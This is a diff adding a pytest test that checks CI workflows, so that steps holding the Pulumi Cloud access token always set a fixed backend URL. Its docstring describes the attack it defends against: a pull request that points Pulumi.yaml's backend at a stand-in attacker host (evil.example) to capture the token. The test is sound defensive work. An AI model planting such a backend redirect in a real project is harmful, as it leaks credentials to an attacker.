@@ -127,6 +127,21 @@ def test_secrets_are_given_to_few_steps(name: str) -> None:
     assert all(re.search(r"pulumi (preview|up)|irsa (check --live|verify|prove)", step["run"]) for step in holders)
 
 
+@pytest.mark.parametrize("name", FOR_A_STACK)
+def test_the_token_goes_to_no_server_of_a_pull_request(name: str) -> None:
+    """Protects the token of Pulumi Cloud: beside it, the address is the environment's, and never empty.
+
+    The attack: a pull request that only writes `backend: {url: https://evil.example}` into Pulumi.yaml. The variable
+    comes first: https://www.pulumi.com/docs/iac/concepts/state-and-backends/#logging-into-and-out-of-state-backends
+    """
+    steps = steps_of(workflow(f"{name}.yml")["jobs"][name])
+    addresses = {
+        step["env"].get("PULUMI_BACKEND_URL") for step in steps if "PULUMI_ACCESS_TOKEN" in step.get("env", {})
+    }
+
+    assert addresses == {"${{ vars.PULUMI_BACKEND_URL || 'https://api.pulumi.com' }}"}
+
+
 @pytest.mark.parametrize("file", [*WORKFLOWS, *ACTIONS], ids=lambda file: f"{file.parent.name}/{file.name}")
 def test_no_value_becomes_a_part_of_a_script(file: Path) -> None:
     """Protects from the name of a branch, a stack or a variable that a shell would run: values are in `env:`.
